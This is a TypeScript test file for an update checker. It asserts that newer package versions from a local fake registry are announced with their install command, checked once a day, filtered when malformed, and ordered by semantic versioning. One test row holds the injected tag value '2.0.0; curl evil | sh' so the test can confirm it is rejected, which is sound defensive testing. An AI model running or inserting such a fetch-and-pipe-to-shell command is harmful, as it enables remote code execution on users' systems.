import { once } from "node:events";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type RequestListener } from "node:http";
import { join } from "node:path";

import type { FakeClock } from "@catalog/clock/testing";
import { describe, expect, it, onTestFinished } from "vitest";

import { addUpdateRoute, compareVersions } from "../../src/server/updates.ts";
import { openSession, startPageServer } from "../helpers/page-server.ts";
import { createFolder } from "../helpers/temporary-folder.ts";

interface Updates {
  readonly clock: FakeClock;
  readonly path: string;
  readonly asked: readonly string[];
  readonly read: () => Promise<unknown>;
  readonly bugs: readonly unknown[];
}

interface Setup {
  readonly version?: string;
  /** Stands for no registry. */
  readonly isInstalled?: boolean;
  readonly path?: string;
}

/** A page whose program comes from a registry of this machine. */
async function open(answer: RequestListener, setup: Setup = {}): Promise<Updates> {
  const asked: string[] = [];
  const registry = createServer((request, response) => {
    asked.push(request.url ?? "");
    answer(request, response);
  });
  await once(registry.listen(0, "127.0.0.1"), "listening");
  onTestFinished(() => {
    registry.closeAllConnections();
    registry.close();
  });
  const address = registry.address();
  const port = typeof address === "object" ? (address?.port ?? 0) : 0;
  const { path = join(createFolder(), "web", "update.json"), version = "1.0.0 (ec20e6c8)" } = setup;
  const installed = {
    name: "catalog-toolkit",
    version,
    registry: `http://127.0.0.1:${port}`,
    command: "npm install --global catalog-toolkit",
  };
  const server = await startPageServer({
    routes: [
      (app, { clock }) =>
        addUpdateRoute(app, {
          clock,
          fetch,
          path,
          installed: setup.isInstalled === false ? undefined : installed,
        }),
    ],
  });
  const headers = await openSession(server);
  const read = async (): Promise<unknown> => {
    const response = await fetch(`${server.origin}/api/update`, { headers });
    expect(response.status).toBe(200);
    return JSON.parse(await response.text());
  };
  return { clock: server.clock, path, asked, read, bugs: server.bugs };
}

const answerWith =
  (body: unknown): RequestListener =>
  (_request, response) =>
    void response.end(typeof body === "string" ? body : JSON.stringify(body));

const DAY_MS = 86_400_000;

describe("a newer version", () => {
  it("is announced with the command that installs it", async () => {
    const { read, asked } = await open(answerWith({ latest: "1.2.0", next: "2.0.0-rc.1" }));

    expect(await read()).toEqual({
      version: "1.2.0",
      command: "npm install --global catalog-toolkit@1.2.0",
    });
    expect(asked).toEqual(["/-/package/catalog-toolkit/dist-tags"]);
  });

  it("is asked for once a day, over all starts of the program", async () => {
    const first = await open(answerWith({ latest: "1.2.0" }));
    await Promise.all([first.read(), first.read(), first.read()]);
    const second = await open(answerWith({ latest: "9.0.0" }), { path: first.path });

    const early = await second.read();
    const stored: object = JSON.parse(readFileSync(first.path, "utf8"));
    const yesterday = { ...stored, askedAtMs: second.clock.now() - DAY_MS };
    writeFileSync(first.path, JSON.stringify(yesterday));
    const late = await second.read();

    expect([first.asked.length, early]).toEqual([1, expect.objectContaining({ version: "1.2.0" })]);
    expect([second.asked.length, late]).toEqual([1, expect.objectContaining({ version: "9.0.0" })]);
  });

  it.each([
    ["1.0.0", { latest: "1.0.0" }, null],
    ["1.1.0", { latest: "1.0.9" }, null],
    ["1.0.0", { latest: "1.0.1", next: "2.0.0-rc.1" }, "1.0.1"],
    ["1.0.0-rc.1", { latest: "1.0.0" }, "1.0.0"],
    ["1.0.0-rc.1", { latest: "0.9.0", next: "1.0.0-rc.2" }, "1.0.0-rc.2"],
    ["1.0.0-rc.10", { latest: "0.9.0", next: "1.0.0-rc.9" }, null],
    ["?", { latest: "2.0.0" }, null],
    ["1.0.0", { latest: "2.0.0; curl evil | sh" }, null],
    ["1.0.0", { latest: "<b>2.0.0</b>" }, null],
    ["1.0.0", { latest: ["2.0.0"] }, null],
  ])("than %s is found among %o", async (version, tags, newer) => {
    const { read } = await open(answerWith(tags), { version });

    expect(await read()).toEqual(newer && expect.objectContaining({ version: newer }));
  });
});

describe("nothing is said", () => {
  it.each<readonly [why: string, answer: RequestListener]>([
    ["the package is not published", (_, response) => void response.writeHead(404).end("{}")],
    ["the answer is no JSON", answerWith("<html>")],
    ["the answer is no object", answerWith([1])],
    ["the answer is endless", answerWith(JSON.stringify({ latest: "9.9.9", x: "x".repeat(1e6) }))],
    ["the connection breaks", (_, response) => void response.destroy()],
  ])("where %s, and it is not asked again that day", async (_why, answer) => {
    const { read, asked, bugs } = await open(answer);

    expect([await read(), await read(), asked.length, bugs]).toEqual([null, null, 1, []]);
  });

  it("of a program that was not installed from a registry", async () => {
    const { read, asked, path } = await open(answerWith({ latest: "9.0.0" }), {
      isInstalled: false,
    });

    expect([await read(), asked, existsSync(path)]).toEqual([null, [], false]);
  });

  it("of a note that somebody has spoilt, which is written anew", async () => {
    const path = join(createFolder(), "update.json");
    writeFileSync(path, `{"askedAtMs": "now"}`);
    const { read } = await open(answerWith({ latest: "1.2.0" }), { path });

    expect(await read()).toMatchObject({ version: "1.2.0" });
    expect(JSON.parse(readFileSync(path, "utf8"))).toMatchObject({ tags: { latest: "1.2.0" } });
  });
});

it("orders versions as semantic versioning does", () => {
  // The order of section 11 of the specification.
  const ordered = [
    "1.0.0-alpha",
    "1.0.0-alpha.1",
    "1.0.0-alpha.beta",
    "1.0.0-beta",
    "1.0.0-beta.2",
    "1.0.0-beta.11",
    "1.0.0-rc.1",
    "1.0.0",
    "1.0.1",
    "1.10.0",
    "2.0.0",
  ];

  const sorted = ordered.toReversed().toSorted(compareVersions);

  expect(sorted).toEqual(ordered);
});
